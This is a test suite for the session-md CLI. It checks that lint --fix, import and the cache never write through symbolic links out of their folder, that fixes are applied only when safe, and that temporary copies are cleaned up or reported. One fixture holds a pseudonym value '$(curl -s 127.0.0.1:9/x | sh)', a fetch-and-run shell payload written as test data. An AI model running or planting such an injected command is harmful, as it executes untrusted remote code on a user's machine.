import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  chownSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { createNodeHost } from '../../src/cli/nodeHost';
import { runWith, WORKER_SCRIPT } from '../support/lintRun';
import { BUILTIN_CODEBOOKS_DIR, ROOT } from '../support/paths';
import { makeWorkspace, nodeHostWith, runCli, transcript } from '../support/workspace';
import { HANG_MS } from '../support/limits';

// Every write of the CLI stays inside the folder it works on and never through a symbolic link
// out of it; `lint --fix` replaces a file only when that is safe: unchanged since it was read,
// writable, with no other hard links, keeping its owner; and it leaves no temporary copy of a
// transcript behind, or, if killed outright, one that `lint` finds.

const CLI = join(ROOT, 'dist', 'cli.js');
const FIXABLE = transcript({ middle: ['[00:06:00] C: And my mood is low. {#mood}'] });
const FIXED = FIXABLE.replace('    status: open\n', '    status: open\n  - id: mood\n    text: "TODO: describe this goal"\n    status: open\n');
// The repro of issue 11: a pseudonym map whose value is a shell command, and a transcript that is a link to a script outside the repository.
const VICTIM = '#!/bin/sh\n# Jane Doe runs the backups\ncp -r ~/notes /backup\n';
const REPO = {
  'repo/.sessionmdrc.yaml': 'pii:\n  names: names.txt\n  pseudonyms: pseudo.yaml\n',
  'repo/names.txt': 'Jane Doe\n',
  'repo/pseudo.yaml': 'Jane Doe: "$(curl -s 127.0.0.1:9/x | sh)"\n',
  'repo/clean.session.md': transcript(),
  'outside/victim.sh': VICTIM,
};

type Report = { files: { path: string; findings: { ruleId: string; message: string }[] }[] };
const findingsOf = (stdout: string, path: string): { ruleId: string; message: string }[] =>
  (JSON.parse(stdout) as Report).files.find((f) => f.path === path)?.findings ?? [];

describe('writes stay inside the folder being worked on', () => {
  let ws: ReturnType<typeof makeWorkspace>;
  afterEach(() => ws?.dispose());

  it('lint --fix does not rewrite a file outside the folder through a symbolic link, and still reports its findings', async () => {
    ws = makeWorkspace(REPO);
    symlinkSync('../outside/victim.sh', ws.path('repo/notes.session.md'));
    // Folders and globs never follow symbolic links; a link named on the command line is followed only to a file inside the folder.
    for (const args of [['notes.session.md'], [ws.path('repo/notes.session.md')], ['clean.session.md', './notes.session.md']]) {
      const result = await runCli(['lint', '--fix', '-f', 'json', ...args], ws.path('repo'));
      assert.equal(readFileSync(ws.path('outside/victim.sh'), 'utf8'), VICTIM, `${args.join(' ')}: the script outside is unchanged`);
      assert.equal(result.code, 2, `${args.join(' ')}: exit code 2, as for other write failures`);
      const findings = findingsOf(result.stdout, 'notes.session.md');
      const refusal = findings.find((f) => f.ruleId === 'file-invalid');
      assert.ok(refusal, `${args.join(' ')}: ${result.stdout}`);
      assert.match(
        refusal.message,
        /^Not fixed: it leads through a symbolic link to .*outside[\\/]victim\.sh, outside .*repo, the folder session-md may write in\.$/,
      );
      assert.ok(
        findings.some((f) => f.ruleId === 'pii-name'),
        'the other findings are still reported',
      );
      assert.ok(lstatSync(ws.path('repo/notes.session.md')).isSymbolicLink());
    }
    assert.deepEqual(readdirSync(ws.path('outside')), ['victim.sh'], 'no temporary file outside either');
  });

  it('lint --fix writes a file through a link inside the folder once, when both the link and its target are linted, on worker threads too', async () => {
    for (const threads of [undefined, { script: WORKER_SCRIPT, count: 2, always: true }]) {
      ws = makeWorkspace({ 'real/a.session.md': FIXABLE });
      mkdirSync(ws.path('link'));
      symlinkSync('../real/a.session.md', ws.path('link/a.session.md'));
      const result = await runWith(['lint', '--fix', '-f', 'json', 'link/a.session.md', 'real/a.session.md'], ws.dir, threads ? { threads } : {});
      assert.equal(result.code, 0, result.stdout + result.stderr);
      assert.equal(readFileSync(ws.path('real/a.session.md'), 'utf8'), FIXED);
      assert.ok(lstatSync(ws.path('link/a.session.md')).isSymbolicLink());
      assert.deepEqual(
        (JSON.parse(result.stdout) as Report).files.map((f) => f.path),
        ['link/a.session.md', 'real/a.session.md'],
      );
      ws.dispose();
    }
  });

  it('a file named outside the current folder may be fixed only inside its own folder', async () => {
    ws = makeWorkspace({ 'real/a.session.md': FIXABLE, 'links/b.session.md': FIXABLE });
    symlinkSync('../real/a.session.md', ws.path('links/a.session.md'));
    mkdirSync(ws.path('here'));
    const result = await runCli(['lint', '--fix', '../links/a.session.md', '../links/b.session.md'], ws.path('here'));
    assert.equal(result.code, 2);
    assert.equal(readFileSync(ws.path('real/a.session.md'), 'utf8'), FIXABLE);
    assert.equal(readFileSync(ws.path('links/b.session.md'), 'utf8'), FIXED, 'a file in that folder is fixed');
    assert.match(
      result.stdout,
      /Not fixed: it leads through a symbolic link to .*real[\\/]a\.session\.md, outside .*links, the folder session-md may write in/,
    );
  });

  it('import --force does not write through a link that leads out of the --out folder, or through a linked folder', async () => {
    ws = makeWorkspace({ 'repo/notes.txt': 'T: Hello.\nC: Hi.\n', 'outside/victim.session.md': VICTIM });
    mkdirSync(ws.path('repo/out'));
    symlinkSync('../../outside/victim.session.md', ws.path('repo/out/notes.session.md'));
    symlinkSync('../outside', ws.path('repo/linked'));
    for (const out of ['out/', 'out/notes.session.md', 'linked/notes.session.md', 'linked/new/notes.session.md']) {
      const result = await runCli(['import', 'notes.txt', '--from', 'text', '--out', out, '--force'], ws.path('repo'));
      assert.equal(result.code, 2, `${out}: ${result.stderr}`);
      assert.match(result.stderr, /session-md: not writing .*notes\.session\.md: (it|its folder) leads through a symbolic link to .*outside/, out);
    }
    assert.deepEqual(readdirSync(ws.path('outside')), ['victim.session.md'], 'nothing written or created outside');
    assert.equal(readFileSync(ws.path('outside/victim.session.md'), 'utf8'), VICTIM);
  });

  it('lint --cache does not write the cache through a link out of the folder', async () => {
    ws = makeWorkspace({ 'repo/a.session.md': transcript(), 'outside/cache': '' });
    symlinkSync('../outside/cache', ws.path('repo/.sessionmd-cache'));
    const result = await runCli(['lint', '--cache'], ws.path('repo'));
    assert.equal(result.code, 0, 'a cache that cannot be written is a note, not an error');
    assert.match(result.stderr, /cannot write the cache .*\.sessionmd-cache: it leads through a symbolic link to .*outside[\\/]cache/);
    assert.equal(readFileSync(ws.path('outside/cache'), 'utf8'), '');
  });
});

describe('lint --fix replaces a file only when it is safe', function () {
  let ws: ReturnType<typeof makeWorkspace>;
  afterEach(() => ws?.dispose());

  it('skips a file saved elsewhere between its read and the rename, keeping what was saved', async () => {
    // An editor's save while --fix works: once longer, once the same size with its time put back, which only the hash tells.
    const saves: Array<(path: string) => void> = [
      (path) => appendFileSync(path, 'C: Saved in the editor meanwhile.\n'),
      (path) => {
        const { atime, mtime } = statSync(path);
        writeFileSync(path, readFileSync(path, 'utf8').replace('Sleep better', 'Sleep BETTER'));
        utimesSync(path, atime, mtime);
      },
    ];
    for (const save of saves) {
      ws = makeWorkspace({ 'a.session.md': FIXABLE });
      const target = ws.path('a.session.md');
      const node = createNodeHost(BUILTIN_CODEBOOKS_DIR);
      const host = nodeHostWith({
        writeFile: async (path, data, options) => {
          if (path !== target) save(target);
          return node.writeFile(path, data, options);
        },
      });
      const saved = (() => {
        const copy = makeWorkspace({ 'a.session.md': FIXABLE });
        save(copy.path('a.session.md'));
        const text = readFileSync(copy.path('a.session.md'), 'utf8');
        copy.dispose();
        return text;
      })();
      const result = await runCli(['lint', '--fix'], ws.dir, host);
      assert.equal(result.code, 2);
      assert.match(
        result.stdout,
        /a\.session\.md:1:1 +error +Not fixed: it changed after session-md read it \(saved in an editor\?\), so the fix was not written; run the command again\. +file-invalid/,
      );
      assert.match(result.stdout, /goal-undeclared/, 'the findings of the file as read are reported');
      assert.equal(readFileSync(target, 'utf8'), saved, 'the save is kept');
      assert.deepEqual(readdirSync(ws.dir).sort(), ['.git', 'a.session.md'], 'no temporary file left');
      ws.dispose();
    }
  });

  it('refuses a read-only file', async () => {
    ws = makeWorkspace({ 'a.session.md': FIXABLE });
    chmodSync(ws.path('a.session.md'), 0o444);
    const result = await runCli(['lint', '--fix'], ws.dir);
    assert.equal(result.code, 2);
    assert.match(result.stdout, /Not fixed: it is read-only \(mode 0444\); make it writable first if it should change\./);
    assert.equal(readFileSync(ws.path('a.session.md'), 'utf8'), FIXABLE);
    assert.equal(statSync(ws.path('a.session.md')).mode & 0o777, 0o444);
  });

  it('refuses to split hard links', async () => {
    ws = makeWorkspace({ 'a.session.md': FIXABLE });
    linkSync(ws.path('a.session.md'), ws.path('copy.session.md'));
    const result = await runCli(['lint', '--fix', 'a.session.md'], ws.dir);
    assert.equal(result.code, 2);
    assert.match(result.stdout, /Not fixed: it has 2 hard links, and replacing it would leave the other names with the old text/);
    assert.equal(readFileSync(ws.path('a.session.md'), 'utf8'), FIXABLE);
    assert.equal(statSync(ws.path('a.session.md')).ino, statSync(ws.path('copy.session.md')).ino, 'still one file');
  });

  it('keeps the owner and group of a file it fixes for another user (run as root)', async function () {
    if (process.getuid?.() !== 0) this.skip(); // Only root can give a file to another user; the refusal below is tested for everyone.
    ws = makeWorkspace({ 'a.session.md': FIXABLE });
    chownSync(ws.path('a.session.md'), 1234, 2345);
    const result = await runCli(['lint', '--fix'], ws.dir);
    assert.equal(result.code, 0, result.stdout);
    assert.equal(readFileSync(ws.path('a.session.md'), 'utf8'), FIXED);
    const { uid, gid } = statSync(ws.path('a.session.md'));
    assert.deepEqual([uid, gid], [1234, 2345]);
  });

  it('refuses, removing its temporary file, when the owner cannot be kept', async () => {
    ws = makeWorkspace({ 'a.session.md': FIXABLE });
    const target = ws.path('a.session.md');
    chmodSync(target, 0o666);
    // The file seems to belong to someone else, and giving the new file to them is not allowed.
    const node = createNodeHost(BUILTIN_CODEBOOKS_DIR);
    const host = nodeHostWith({
      stat: async (path) => {
        const stats = await node.stat(path);
        return path === target && stats ? { ...stats, uid: (stats.uid ?? 0) + 1 } : stats;
      },
      chown: () => Promise.reject(Object.assign(new Error('operation not permitted'), { code: 'EPERM' })),
    });
    const result = await runCli(['lint', '--fix'], ws.dir, host);
    assert.equal(result.code, 2);
    assert.match(
      result.stdout,
      /Not fixed: it belongs to user \d+ and group \d+, and the rewritten file could not keep them \(EPERM\); run this as its owner\./,
    );
    assert.equal(readFileSync(target, 'utf8'), FIXABLE);
    assert.deepEqual(readdirSync(ws.dir).sort(), ['.git', 'a.session.md']);
  });

  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP']) {
    it(`leaves no temporary file when stopped by ${signal} at the rename, on worker threads`, () => {
      // On worker threads (SESSION_MD_THREADS=2), dist/cli.js writes the fixes in its main thread.
      const files = Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`s${i}.session.md`, FIXABLE]));
      ws = makeWorkspace(files);
      const killed = spawnSync(process.execPath, ['--require', join(ROOT, 'test', 'support', 'kill-at-rename.cjs'), CLI, 'lint', '--fix'], {
        cwd: ws.dir,
        env: { ...process.env, SESSIONMD_KILL_SIGNAL: signal, SESSION_MD_THREADS: '2' },
        encoding: 'utf8',
        timeout: HANG_MS,
      });
      assert.equal(killed.error, undefined);
      assert.equal(killed.status, { SIGTERM: 143, SIGINT: 130, SIGHUP: 129 }[signal], `${killed.signal ?? ''} ${killed.stderr}`);
      assert.deepEqual(readdirSync(ws.dir).sort(), ['.git', ...Object.keys(files)].sort(), 'no temporary file left');
      for (const name of Object.keys(files)) assert.equal(readFileSync(ws.path(name), 'utf8'), FIXABLE, 'the originals are whole');
    });
  }

  it('reports a temporary copy left by a run killed outright, instead of linting it, also to a pre-commit hook', async () => {
    const leftover = 'notes.session.md.sessionmd-tmp-4242-1.session.md';
    ws = makeWorkspace({ 'notes.session.md': transcript(), [leftover]: transcript({ middle: ['[00:06:00] C: Mail me at jane@example.org.'] }) });
    const expected = `Temporary copy left by an interrupted write of notes.session.md (session-md lint --fix or import was stopped): compare it with notes.session.md, keep what you need, and delete it`;
    for (const args of [
      ['lint', '-f', 'json'],
      ['lint', '-f', 'json', '--rules', 'pii', '--', leftover],
    ]) {
      const result = await runCli(args, ws.dir);
      assert.equal(result.code, 1, args.join(' '));
      assert.deepEqual(
        findingsOf(result.stdout, leftover).map((f) => [f.ruleId, f.message]),
        [['file-invalid', expected]],
      );
    }
    const exported = await runCli(['export'], ws.dir);
    assert.equal(exported.code, 0);
    assert.doesNotMatch(exported.stdout, /sessionmd-tmp/, 'export and stats skip it');
    assert.match(
      exported.stderr,
      /skipping notes\.session\.md\.sessionmd-tmp-4242-1\.session\.md: a temporary copy left by an interrupted write of notes\.session\.md/,
    );
  });
});
